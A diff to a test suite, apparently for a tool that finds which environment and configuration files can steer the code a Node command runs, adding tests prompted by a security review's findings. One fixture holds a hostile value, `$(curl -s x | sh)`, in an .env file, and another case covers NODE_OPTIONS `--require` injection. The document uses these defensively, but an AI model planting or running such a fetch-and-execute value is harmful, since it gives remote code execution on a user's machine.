@@ -2109,6 +2109,7 @@ def test_the_table_of_tools_configurations_holds_only_names_of_the_workspace() -
     for plugin, (enablers, names, stems) in PLUGINS.items():
         assert enablers and all(PACKAGE_NAME.fullmatch(e) or re.fullmatch(r"@[\w.-]+/", e) for e in enablers), plugin
         assert all(name and not os.path.isabs(name) and ".." not in name.split("/") for name in names), plugin
+        assert all("." in name or "/" in name for name in names), plugin  # (attack11's MINOR-G: no bare `yml`)
         assert all(re.fullmatch(r"[\w.-]+", stem) for stem in stems), plugin
 
 
@@ -2587,6 +2588,56 @@ def test_node_options_cogtools_cannot_read_as_node_does_leave_it_open(tmp_path: 
     assert any(".env " in why and ("does not read" in why or "too large" in why) for why, _ in code.open), code.open
 
 
+@pytest.mark.parametrize(
+    ("argv", "cwd", "env"),
+    [
+        (["next", "build", "web"], ".", "web/.env"),  # (a directory it is given: next loads its .env)
+        (["zenv"], ".", ".env.staging"),  # (dotenv-flow's .env.<NODE_ENV>)
+        (["zenv"], ".", ".env.defaults"),
+        (["zenv"], "pkg", "pkg/.env.local"),
+    ],
+)
+def test_the_environment_files_a_program_may_load_are_each_there_is(
+    tmp_path: Path, argv: list[str], cwd: str, env: str
+) -> None:
+    """(attack11's MAJOR-J and U: `next build web` loads web/.env; dotenv-flow loads .env.defaults
+    and .env.staging for NODE_ENV=staging: none was pinned)"""
+    bin_program(tmp_path, argv[0], "cli.js")
+    write(tmp_path / env, "A=1\n")
+    write(tmp_path / ".env.example", "A=\n")
+    (tmp_path / cwd).mkdir(exist_ok=True)
+    manifests = set(command_code(argv, tmp_path / cwd, tmp_path).manifests)
+    assert (tmp_path / env, "env") in manifests and (tmp_path / ".env.example", "env") not in manifests, manifests
+
+
+@pytest.mark.parametrize(
+    ("loads", "named"),
+    [
+        ('process.loadEnvFile("config/app.env");\n', ["pkg/config/app.env", "config/app.env"]),
+        ('process.loadEnvFile("config/app" + ".env");\n', []),
+        ("process.loadEnvFile(`config/${x}.env`);\n", []),
+    ],
+)
+def test_an_environment_file_a_module_names_is_found_where_the_tool_runs(
+    tmp_path: Path, loads: str, named: list[str]
+) -> None:
+    """(attack11's MAJOR-T and I2: node takes a relative path from where the tool runs, not the
+    project's root; a path it computes, `"config/app" + ".env"`, was taken for two files)"""
+    write(tmp_path / "tools" / "x.mjs", loads)
+    (tmp_path / "pkg").mkdir()
+    code = command_code(["node", "../tools/x.mjs"], tmp_path / "pkg", tmp_path)
+    assert {tmp_path / n for n in named} <= set(code.files), code.files
+    assert bool(named) != any("names only when it runs" in why for why, _ in code.open), code.open
+
+
+def test_the_file_dotenv_config_is_told_by_nodes_arguments_is_pinned(tmp_path: Path) -> None:
+    """(attack11's MAJOR-S: `node -r dotenv/config x.js dotenv_config_path=FILE`)"""
+    package(tmp_path, "dotenv", {"config.js": "\n"})
+    write(tmp_path / "x.js", "\n")
+    argv = ["node", "-r", "dotenv/config", "x.js", "dotenv_config_path=config/app.env"]
+    assert tmp_path / "config" / "app.env" in command_code(argv, tmp_path, tmp_path).files
+
+
 def test_node_options_after_many_blank_lines_are_read_in_one_pass(tmp_path: Path) -> None:
     """(attack11's MAJOR-E: `^\\s*NODE_OPTIONS` crossed lines, so 65,536 blank lines made each
     call take 113 s; benchmarks/pin_reading.py's `env` case measures it)"""
@@ -2610,6 +2661,8 @@ def test_node_options_after_many_blank_lines_are_read_in_one_pass(tmp_path: Path
         ("NODE_ENV=test\nDATABASE_URL=postgres://db\nAPI_KEY=x # not PATHS\n", False),
         ("node_options=--require ./x.js\n", True),  # (in any case: npm reads npm_config_* so)
         ("STRIPE_KEY=sk_1\nPORT=3000\nexport PUBLIC_URL=https://x/y\n", False),
+        ('API_URL="$(curl -s x | sh)"\n', True),  # (attack11's MAJOR-P: dotenvx runs it)
+        ("# the local ENV for the API, and its PATH\nAPI_URL=x # a PATH on the server\n", False),  # (MINOR-R)
     ],
 )
 def test_an_environment_file_chooses_code_by_the_names_in_it(tmp_path: Path, text: str, chooses: bool) -> None:
